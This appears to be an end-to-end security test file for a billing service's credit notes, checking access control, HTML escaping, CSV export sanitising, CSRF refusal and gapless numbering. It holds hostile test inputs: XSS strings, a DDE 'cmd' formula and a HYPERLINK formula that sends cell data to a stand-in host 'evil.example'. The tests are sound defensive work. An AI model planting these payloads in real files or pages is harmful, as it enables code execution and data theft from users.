"""Issue #14: credit notes as documents and files. Who may open a credit note and the finance exports, what a
hostile reason or customer name does in the HTML and in a spreadsheet, and a forged credit form. On the suite's one
system, with the identities of identities.py (T65–T68 in docs/security.md).
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from assist_gateway.web.security import csrf_for
from billing_events import closed_records, publish_billed_session
from identities import PASSWORD, STAFF
from public_api import bearer, login, request_help

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]

HOSTILE_CUSTOMER = {"name": "<img src=x onerror=alert(1)>", "email": "=cmd|' /C calc'!A0@example.com",
                    "company": "@SUM(1+1)"}
SCRIPT_REASON = '<script>alert("credit")</script> "><b>x'
FORMULA_REASONS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)"]
PERIOD = {"from": "2000-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z"}


async def hostile_credits(client: httpx.AsyncClient, system) -> tuple[dict, list[dict]]:
    """A closed record of a hostile customer and five credits against it, one per hostile reason."""
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    session_id = await publish_billed_session(system.nats_url, started_at=start, ended_at=start + timedelta(minutes=20),
                                              customer=HOSTILE_CUSTOMER)
    fiona = bearer(await login(client, STAFF["finance"], PASSWORD))
    record = (await closed_records(client, fiona, [session_id]))[session_id]
    credits = []
    for reason in (SCRIPT_REASON, *FORMULA_REASONS):
        issued = await client.post(f"/api/v1/billing/records/{record['record_id']}/credits", headers=fiona,
                                   json={"amount": "1.00", "reason": reason})
        assert issued.status_code == 201, issued.text
        credits.append(issued.json()["credit"])
    return record, credits


def page_client(system, token: str | None) -> httpx.AsyncClient:
    """A browser's view: the staff cookie (or none), no bearer header, redirects not followed."""
    cookies = {"assist_token": token} if token else {}
    return httpx.AsyncClient(base_url=system.gateway_url, cookies=cookies, timeout=30)


async def test_only_finance_and_admin_open_a_credit_note_or_the_finance_exports(system):
    async with httpx.AsyncClient(base_url=system.gateway_url, timeout=30) as client:
        record, credits = await hostile_credits(client, system)
        note = credits[0]
        customer = await request_help(client)
        tokens = {role: await login(client, username, PASSWORD) for role, username in STAFF.items()}

    page_paths = [f"/finance/credits/{note['credit_id']}", "/finance/records.csv?status=closed"]
    api_paths = ["/api/v1/billing/credits.csv", "/api/v1/billing/export.csv"]
    for role in ("consultant", "other_consultant", "supervisor"):
        async with page_client(system, tokens[role]) as pages:
            for path in page_paths:
                answer = await pages.get(path)
                assert answer.status_code == 403, (role, path, answer.status_code)
                assert note["number"] not in answer.text and "alert" not in answer.text and "calc" not in answer.text
            for path in api_paths:  # the API with the cookie, as a link on a page would send it
                answer = await pages.get(path, params={**PERIOD, "dialect": "excel-bg"})
                assert answer.status_code == 403 and note["number"] not in answer.text, (role, path)
        async with httpx.AsyncClient(base_url=system.gateway_url, timeout=30) as api:
            for path in api_paths:
                answer = await api.get(path, params=PERIOD, headers=bearer(tokens[role]))
                assert answer.status_code == 403 and note["number"] not in answer.text, (role, path)

    # A customer's token is no staff credential: as a cookie it leads to the login, as a bearer it is refused.
    for token in (customer.customer_token, None):
        async with page_client(system, token) as pages:
            for path in page_paths:
                answer = await pages.get(path)
                assert answer.status_code == 303 and answer.headers["location"].startswith("/console/login")
                assert note["number"] not in answer.text
        async with httpx.AsyncClient(base_url=system.gateway_url, timeout=30) as api:
            headers = bearer(token) if token else {}
            for path in api_paths:
                answer = await api.get(path, params=PERIOD, headers=headers)
                assert answer.status_code in (401, 403) and note["number"] not in answer.text, (path, answer.text)

    for role in ("finance", "admin"):
        async with page_client(system, tokens[role]) as pages:
            document = await pages.get(f"/finance/credits/{note['credit_id']}")
            assert document.status_code == 200 and note["number"] in document.text
            assert document.headers["cache-control"] == "no-store"
            exported = await pages.get("/api/v1/billing/credits.csv", params=PERIOD)
            assert exported.status_code == 200 and note["number"] in exported.text
    async with page_client(system, tokens["finance"]) as pages:
        unknown = await pages.get("/finance/credits/no-such-credit")
        assert unknown.status_code == 404 and "Няма такова кредитно известие." in unknown.text


async def test_a_hostile_reason_or_name_is_text_in_the_document_and_in_every_export(system):
    async with httpx.AsyncClient(base_url=system.gateway_url, timeout=30) as client:
        record, credits = await hostile_credits(client, system)
        fiona = await login(client, STAFF["finance"], PASSWORD)

    async with page_client(system, fiona) as pages:
        document = (await pages.get(f"/finance/credits/{credits[0]['credit_id']}")).text
        assert "<script>alert" not in document and "<img src=x" not in document and "<b>x" not in document
        assert "&lt;script&gt;alert(&#34;credit&#34;)&lt;/script&gt; &#34;&gt;&lt;b&gt;x" in document
        assert "&lt;img src=x onerror=alert(1)&gt;" in document
        # Every text cell a person typed starts as text in a spreadsheet: a leading apostrophe before = + - @.
        for dialect, delimiter in (("rfc4180", ","), ("excel-bg", ";")):
            answer = await pages.get("/api/v1/billing/credits.csv", params={**PERIOD, "dialect": dialect})
            text = answer.content.decode("utf-8-sig")
            rows = [row for row in csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter)
                    if row["record_id"] == record["record_id"]]
            assert [row["reason"] for row in rows] == [SCRIPT_REASON, *("'" + reason for reason in FORMULA_REASONS)]
            assert {(row["customer_name"], row["customer_email"], row["customer_company"]) for row in rows} == {
                (HOSTILE_CUSTOMER["name"], "'" + HOSTILE_CUSTOMER["email"], "'" + HOSTILE_CUSTOMER["company"])}
        shown = await pages.get("/finance/records.csv", params={"customer": "onerror"})
        (row,) = [row for row in csv.DictReader(io.StringIO(shown.content.decode("utf-8-sig"), newline=""),
                                                delimiter=";") if row["record_id"] == record["record_id"]]
        assert (row["customer_email"], row["customer_company"]) == ("'" + HOSTILE_CUSTOMER["email"],
                                                                   "'" + HOSTILE_CUSTOMER["company"])
        assert row["credit_notes"] == " ".join(credit["number"] for credit in credits)


async def test_a_forged_credit_form_issues_nothing_and_what_it_carried_comes_back_as_text(system):
    async with httpx.AsyncClient(base_url=system.gateway_url, timeout=30) as client:
        start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=3)
        session_id = await publish_billed_session(system.nats_url, started_at=start,
                                                  ended_at=start + timedelta(minutes=10), customer={
                                                      "name": "Форма Тестова", "email": "forma@example.bg"})
        fiona = await login(client, STAFF["finance"], PASSWORD)
        maria = await login(client, STAFF["consultant"], PASSWORD)
        record = (await closed_records(client, bearer(fiona), [session_id]))[session_id]
        form = {"record_id": record["record_id"], "amount": "2.00", "reason": '"><script>alert(1)</script>',
                "credit_id": "forged-1"}
        filters = {"customer": "форма", "status": "closed"}

        # Without the CSRF token, or with another session's: refused, the page again with the form as typed.
        for token in ("", csrf_for(maria)):
            async with page_client(system, fiona) as pages:
                answer = await pages.post("/finance/credits", params=filters, data={**form, "csrf_token": token})
            assert answer.status_code == 403 and answer.headers["content-type"].startswith("text/html")
            assert "Формулярът е изтекъл. Презаредете страницата и опитайте отново." in answer.text
            assert "<script>alert(1)" not in answer.text
            assert 'value="&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in answer.text  # typed, kept, escaped
            assert 'value="форма"' in answer.text  # the filter kept
        # Another role with a valid token of its own: refused by role.
        async with page_client(system, maria) as pages:
            answer = await pages.post("/finance/credits", data={**form, "csrf_token": csrf_for(maria)})
            assert answer.status_code == 403
        now = (await client.get(f"/api/v1/billing/records/{record['record_id']}", headers=bearer(fiona))).json()
        assert (now["credited"], now["credits"]) == ("0.00", [])

        # The notice comes from billing, never from the address.
        async with page_client(system, fiona) as pages:
            page = (await pages.get("/finance", params={"notice": "<script>x</script>", "credit": "forged"})).text
            assert "<script>x" not in page and 'id="notice"' not in page
            page = (await pages.get("/finance", params={"notice": "credit_issued", "credit": "forged-1"})).text
            assert 'id="issued-note"' not in page


async def test_concurrent_credits_are_numbered_one_to_n_without_gaps_or_duplicates(system):
    """Many credits at once through the API (the billing service answers them in parallel; with DATABASE_URL, in
    concurrent PostgreSQL transactions), with retries and refusals among them: the year's numbers stay 1..n."""
    async with httpx.AsyncClient(base_url=system.gateway_url, timeout=60) as client:
        fiona = bearer(await login(client, STAFF["finance"], PASSWORD))
        start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=4)
        session_ids = [await publish_billed_session(system.nats_url, started_at=start + timedelta(minutes=i),
                                                    ended_at=start + timedelta(minutes=i + 30),
                                                    customer={"name": f"Паралелен {i}", "email": f"p{i}@example.bg"})
                       for i in range(3)]
        records = await closed_records(client, fiona, session_ids)
        record_ids = [records[session_id]["record_id"] for session_id in session_ids]

        def post(index: int, amount: str = "1.00", reason: str | None = None):
            return client.post(f"/api/v1/billing/records/{record_ids[index % 3]}/credits", headers=fiona,
                               json={"amount": amount, "reason": reason or f"паралелно {index}",
                                     "credit_id": f"par-{record_ids[0]}-{index}"})

        count = 18
        answers = await asyncio.gather(
            *(post(index) for index in range(count)),
            *(post(index) for index in range(0, count, 3)),  # retries, racing their first request
            *(post(100 + index, amount="500.00") for index in range(3)),  # refused: more than is left
        )
    issued = [answer.json() for answer in answers[:count]]
    assert all(answer.status_code == 201 for answer in answers[:count + count // 3]), [a.text for a in answers]
    assert all(answer.status_code == 409 for answer in answers[count + count // 3:])
    numbers = {body["credit"]["credit_id"]: body["credit"]["number"] for body in issued}
    for retry in answers[count:count + count // 3]:
        assert numbers[retry.json()["credit"]["credit_id"]] == retry.json()["credit"]["number"]

    async with page_client(system, None) as api:
        exported = await api.get("/api/v1/billing/credits.csv", params=PERIOD, headers=fiona)
    every = [row["number"] for row in csv.DictReader(io.StringIO(exported.text, newline=""))]
    year = datetime.now(UTC).year
    this_year = sorted(int(number.rsplit("-", 1)[1]) for number in every if number.startswith(f"CN-{year}-"))
    assert this_year == list(range(1, len(this_year) + 1)), this_year  # every note of the system: no gap, no twin
    assert set(numbers.values()) <= set(every) and len(set(numbers.values())) == count
